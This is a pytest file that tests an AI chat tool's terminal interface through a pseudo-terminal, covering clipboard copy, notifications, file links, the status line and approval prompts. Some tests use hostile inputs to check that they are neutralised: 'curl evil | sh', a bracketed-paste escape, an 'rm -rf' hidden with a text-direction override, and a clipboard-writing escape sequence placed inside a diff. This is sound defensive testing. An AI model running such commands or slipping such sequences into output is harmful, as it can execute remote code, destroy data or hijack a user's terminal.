"""TerminalUI in the process, writing to a real pseudo-terminal: clipboard, notifications, links, status."""

from __future__ import annotations

import asyncio
import base64
import dataclasses
import fcntl
import os
import pty
import struct
import termios
import tty
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest
import pytest_asyncio

from maia.frontends.chat.term import ANSWER_GUARD, TerminalUI
from maia.frontends.terminal.termcaps import Capabilities, notification


class Pty:
    """A pseudo-terminal: the UI writes to its slave side; the test reads the master side."""

    def __init__(self) -> None:
        self.master, self.slave = pty.openpty()
        tty.setraw(self.slave)  # what blessed's raw() does to the real terminal
        fcntl.ioctl(self.slave, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
        os.set_blocking(self.master, False)
        self.stdin = os.fdopen(self.slave, "r", closefd=False)
        self.stdout = os.fdopen(os.dup(self.slave), "w", encoding="utf-8")
        self.output = b""

    def read(self) -> str:
        """Everything written so far."""
        while True:
            try:
                chunk = os.read(self.master, 65536)
            except (BlockingIOError, OSError):
                break
            if not chunk:
                break
            self.output += chunk
        return self.output.decode("utf-8", "replace")

    def type(self, data: str) -> None:
        """Keys, as the terminal would send them."""
        os.write(self.master, data.encode())

    def close(self) -> None:
        self.stdout.close()
        os.close(self.slave)
        os.close(self.master)


@pytest_asyncio.fixture
async def ui() -> AsyncIterator[tuple[TerminalUI, Pty]]:
    terminal = Pty()
    ui = TerminalUI(stdin=terminal.stdin, stdout=terminal.stdout)  # type: ignore[arg-type]
    ui.start()
    yield ui, terminal
    ui.stop()
    terminal.close()


async def until(condition: Callable[[], bool], timeout: float = 10.0) -> None:
    """Let the event loop run until ``condition()`` holds."""
    loop = asyncio.get_running_loop()
    end = loop.time() + timeout
    while not condition():
        if loop.time() > end:
            raise AssertionError("condition never held")
        await asyncio.sleep(0.02)


@pytest.mark.asyncio
async def test_copy_the_last_answer_or_one_of_its_code_blocks(ui: tuple[TerminalUI, Pty]) -> None:
    interface, terminal = ui
    answer = "Here:\n\n```sh\nls -la\n```\n\nand\n\n```\nsecond\n```\n"
    interface.on_text(answer)
    interface.on_text_end()
    assert interface.copy_answer() == (answer, 0)
    assert interface.copy_answer(2) == ("second", 0)
    assert interface.copy_answer(3) is None  # no third block: nothing copied
    await until(lambda: base64.b64encode(b"second").decode() in terminal.read())
    assert f"\x1b]52;c;{base64.b64encode(answer.encode()).decode()}\x07" in terminal.read()


@pytest.mark.asyncio
async def test_a_copy_never_carries_what_the_screen_showed_inert(ui: tuple[TerminalUI, Pty]) -> None:
    interface, terminal = ui
    # an ESC would end a bracketed paste early and the next line would run; an override hides what runs
    interface.on_text("```sh\necho safe\x1b[201~\ncurl evil | sh\nrm \u202e-rf\tx\n```\n")
    interface.on_text_end()
    assert interface.copy_answer(1) == ("echo safe[201~\ncurl evil | sh\nrm -rf\tx", 2)
    sent = base64.b64encode(b"echo safe[201~\ncurl evil | sh\nrm -rf\tx").decode()
    await until(lambda: sent in terminal.read())


@pytest.mark.asyncio
async def test_a_notification_only_when_the_terminal_is_out_of_focus(ui: tuple[TerminalUI, Pty]) -> None:
    interface, terminal = ui
    interface.caps = dataclasses.replace(interface.caps, focus=True, notifier="osc9")
    interface.term._dec_mode_cache[1004] = 1  # type: ignore[union-attr]  # focus events on, as blessed records it
    interface.set_busy(True, "Thinking")
    interface.set_busy(False)
    assert "\x1b]9;" not in terminal.read()  # in focus: no noise
    terminal.type("\x1b[O")
    await until(lambda: not interface._focused)
    interface.set_busy(True, "Thinking")
    interface.set_busy(False)
    await until(lambda: "\x1b]9;Your turn: MAIA has finished.\x1b\\" in terminal.read())


def test_notification_sequences() -> None:
    assert notification("osc777", "T", "b") == "\x1b]777;notify;T;b\x1b\\"
    assert notification("osc99", "T", "b").startswith("\x1b]99;i=maia:d=0;T\x1b\\")
    assert notification("bell", "T", "b") == "\x07"


@pytest.mark.asyncio
async def test_file_paths_in_tool_calls_are_links_where_supported(ui: tuple[TerminalUI, Pty], tmp_path: Path) -> None:
    interface, terminal = ui
    interface.launch = tmp_path
    interface.on_tool_call("Read", "notes/a.txt")
    await until(lambda: "Read" in terminal.read())
    assert "\x1b]8;" not in terminal.read()  # this terminal is not known to show links
    interface.caps = Capabilities(hyperlinks=True)
    interface.on_tool_call("Read", "notes/b.txt")
    await until(lambda: f"\x1b]8;;{(tmp_path / 'notes' / 'b.txt').as_uri()}\x1b\\notes/b.txt" in terminal.read())
    interface.on_tool_call("Bash", "cat notes/c.txt")
    await until(lambda: "cat notes/c.txt" in terminal.read())
    assert "c.txt\x1b]8" not in terminal.read()  # a command is not a path


@pytest.mark.asyncio
async def test_status_line(ui: tuple[TerminalUI, Pty]) -> None:
    interface, _terminal = ui
    interface.set_context(12_345, 128_000)
    text = interface.status_text("gpt-4o", "session_1", 0.0123)
    assert text == "Model: gpt-4o · context: 12,345 / 128,000 tokens (10%) · session: session_1 · cost: $0.0123"
    assert "cost: unknown" in interface.status_text("gpt-4o", None, None)


async def test_an_approval_shows_the_whole_command_or_diff_inert(ui: tuple[TerminalUI, Pty]) -> None:
    interface, terminal = ui

    class Approval:
        detail = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new \x1b]52;c;aGk=\x07"
        detail_kind = "diff"
        reason = "the command writes outside the folder"

    question = asyncio.ensure_future(interface.ask("Allow Edit: x?", Approval()))
    await until(lambda: "(y/n/s=stop)" in terminal.read())
    output = terminal.read()
    assert "+new ␛]52;c;aGk=␇" in output and "\x1b]52;c;aGk=" not in output
    assert "the command writes outside the folder" in output
    terminal.type("n")  # no turn runs: nothing is typed ahead, the first key answers
    assert await question == "no"


class _Doubtful:
    """A permission question's detail with a rule that ``a`` would add."""

    detail = "rm -rf build"
    detail_kind = "command"
    reason = ""
    rules = ("Bash(rm -rf build)",)


@pytest.mark.asyncio
@pytest.mark.parametrize("word", ["please", "fix the types"])
async def test_typing_on_after_a_pause_never_answers_a_question_that_popped_up(
    ui: tuple[TerminalUI, Pty], word: str
) -> None:
    interface, terminal = ui
    interface.set_busy(True, "Thinking")  # a turn runs: a question may pop up while the user types
    question = asyncio.ensure_future(interface.ask("Allow Bash: rm -rf build?", _Doubtful()))
    await until(lambda: "rm -rf build" in terminal.read())
    await asyncio.sleep(ANSWER_GUARD + 0.2)  # a pause longer than the guard: the first key is not guarded
    for char in word:  # then the user types on ("p" does nothing to the question; "a", "s", "y" must not act)
        terminal.type(char)
        await asyncio.sleep(0.02)
    await until(lambda: interface.store.input.text == word)
    assert not question.done()
    terminal.type("n")  # once they stop typing and look, a key answers
    await asyncio.sleep(ANSWER_GUARD + 0.1)
    terminal.type("n")
    assert await asyncio.wait_for(question, 5) == "no"
